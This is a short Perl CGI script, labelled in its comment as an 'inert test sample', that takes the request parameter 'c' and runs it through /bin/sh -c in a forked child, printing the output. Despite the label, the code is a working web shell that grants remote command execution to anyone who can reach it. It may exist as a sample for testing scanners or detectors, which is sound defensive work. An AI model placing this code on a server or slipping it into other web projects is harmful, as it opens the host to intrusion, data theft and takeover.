#!/usr/bin/perl
# inert test sample: a fork whose child hands the request's command to a shell in list form
use CGI qw(param);
print "Content-Type: text/plain\n\n";
my $c = param('c') || 'id';
if (!open(my $out, "-|")) {
    exec('/bin/sh', '-c', $c) or exit 1;
} else {
    print while <$out>;
}
